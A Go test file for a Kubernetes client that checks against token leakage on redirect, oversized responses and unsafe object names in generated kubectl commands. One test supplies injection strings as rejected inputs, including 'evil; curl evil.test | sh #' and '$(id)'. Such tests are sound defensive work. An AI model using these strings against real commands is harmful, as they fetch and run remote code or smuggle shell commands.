// Copyright The entrypointer Authors
// SPDX-License-Identifier: Apache-2.0

package objects_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"k8s.io/client-go/rest"

	"github.com/entrypointer/entrypointer/internal/objects"
	"github.com/entrypointer/entrypointer/internal/target"
)

// The API server passes on what a pod responds, and a pod may want the user's token.
func TestARedirectDoesNotGetTheToken(t *testing.T) {
	stolen := ""
	thief := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { stolen = r.Header.Get("Authorization") }))
	defer thief.Close()
	server := httptest.NewServer(http.RedirectHandler(thief.URL, http.StatusFound))
	defer server.Close()
	client, err := objects.NewClient(&rest.Config{Host: server.URL, BearerToken: "secret"}, "tenant")
	require.NoError(t, err)
	_, err = client.REST.Get().AbsPath("/api/v1/namespaces/x/pods/y:9090/proxy/metrics").Stream(t.Context())
	require.Error(t, err)
	require.Empty(t, stolen)
}

func TestALongErrorIsCutOff(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusInternalServerError)
		for range 64 {
			_, _ = w.Write([]byte(strings.Repeat("x", 1<<20)))
		}
	}))
	defer server.Close()
	client, err := objects.NewClient(&rest.Config{Host: server.URL}, "tenant")
	require.NoError(t, err)
	body, err := client.REST.Get().AbsPath("/x").DoRaw(t.Context())
	require.Error(t, err)
	require.LessOrEqual(t, len(body), 1<<20)
}

// TestPodsOfManyBytesAreAnErrorWhereMemoryIsBounded reads the pods of an object in pages, and no
// page beyond the bound.
func TestPodsOfManyBytesAreAnErrorWhereMemoryIsBounded(t *testing.T) {
	requests := 0
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		requests++
		item := fmt.Sprintf(`{"metadata":{"name":"p","annotations":{"x":%q}}}`, strings.Repeat("x", 1<<20))
		_, _ = fmt.Fprintf(w, `{"metadata":{"continue":%q},"items":[%s]}`, map[bool]string{true: "more"}[requests < 4], item)
	}))
	defer server.Close()
	client, err := objects.NewClient(&rest.Config{Host: server.URL}, "tenant")
	require.NoError(t, err)
	run, err := target.Parse("taskrun/build", target.All())
	require.NoError(t, err)
	ctx := objects.WithBounds(t.Context(), objects.Bounds{Page: 4 << 20, Pods: 2 << 20})
	_, err = client.Pods(ctx, run, nil)
	require.ErrorContains(t, err, "more than 2 MiB together")
	require.Equal(t, 2, requests)
	requests = 0
	pods, err := client.Pods(t.Context(), run, nil)
	require.NoError(t, err)
	require.Len(t, pods, 4)
}

func TestACommandHasNamesOfObjectsOnly(t *testing.T) {
	require.Equal(t, "kubectl -n team-a get pod web-1", objects.Command("kubectl -n %s get pod %s", "team-a", "web-1"))
	for _, name := range []string{"evil; curl evil.test | sh #", "$(id)", "a\nb", "", "Web"} {
		require.Empty(t, objects.Command("kubectl get pod %s", name))
	}
}
